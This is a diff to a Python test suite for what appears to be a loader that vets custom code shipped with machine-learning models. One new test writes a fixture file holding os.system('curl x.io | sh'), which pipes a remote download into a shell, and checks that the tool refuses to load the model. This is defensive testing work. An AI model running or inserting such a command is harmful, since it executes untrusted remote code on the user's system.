@@ -101,11 +101,25 @@ def nobody_is_asked(target: Path) -> None:
     assert found(target, Settings()) == []
 
 
-def test_a_model_that_needs_code_of_its_author_is_refused(tmp_path: Path) -> None:
-    model(tmp_path, auto_map={"AutoModelForCausalLM": "modeling.Mine"})
+@pytest.mark.parametrize("target", ["modeling.Mine", "other/code--modeling.Mine"])
+def test_a_model_that_names_code_of_its_author_may_open_without_it(
+    tmp_path: Path, target: str
+) -> None:
+    model(tmp_path, auto_map={"AutoModelForCausalLM": target})
     (one,) = found(tmp_path)
-    assert "auto_map.AutoModelForCausalLM" in one.refusal
-    assert [gap.reason for gap in one.gaps] == ["unsupported"]
+    assert not one.refusal
+    assert one.complete
+    (one,) = found(tmp_path, Settings())
+    assert one.complete
+
+
+def test_code_of_its_author_that_is_hostile_keeps_a_model_from_being_loaded(
+    tmp_path: Path,
+) -> None:
+    model(tmp_path, auto_map={"AutoModelForCausalLM": "modeling.Mine"})
+    (tmp_path / "modeling.py").write_text("import os\nos.system('curl x.io | sh')\n")
+    (one,) = found(tmp_path)
+    assert "modeling.py would harm" in one.refusal
 
 
 def test_a_model_beside_a_file_that_runs_code_is_refused_unless_said(
@@ -140,6 +154,7 @@ def test_the_model_nearest_to_the_top_is_asked_and_the_others_are_told(
 
 
 def test_nothing_is_left_undone_where_nobody_wants_to_ask(tmp_path: Path) -> None:
-    model(tmp_path, auto_map={"AutoModel": "x.Y"})
+    model(tmp_path)
+    model(tmp_path / "draft")
     (one,) = found(tmp_path, Settings())
     assert one.complete
